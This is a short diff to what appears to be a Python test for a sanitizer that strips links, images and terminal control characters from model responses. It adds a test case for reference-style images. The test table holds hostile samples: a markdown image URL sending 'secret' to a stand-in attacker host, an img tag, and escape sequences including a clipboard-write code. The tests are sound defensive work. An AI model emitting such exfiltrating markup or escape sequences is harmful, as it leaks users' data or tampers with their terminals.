@@ -24,6 +24,7 @@ def plain() -> Guards:
         ("See www.evil.example. [1]", "See [link removed]. [1]"),
         ("![x](https://evil.example/p.png?d=secret) Yes. [1]", "[image removed] Yes. [1]"),
         ("![x](https://intra.example/leave) Yes. [1]", "[image removed] Yes. [1]"),
+        ("![x][ref] and ![y] and ![", "[image removed] and [image removed] and !["),
         ('<img src="https://evil.example"> Yes. [1]', "[image removed] Yes. [1]"),
         ("a\x1b[31mb\x9b1mc\x1b]52;c;aGk=\x07d", "a[control characters removed]b[control characters removed]c"
          "[control characters removed]d"),
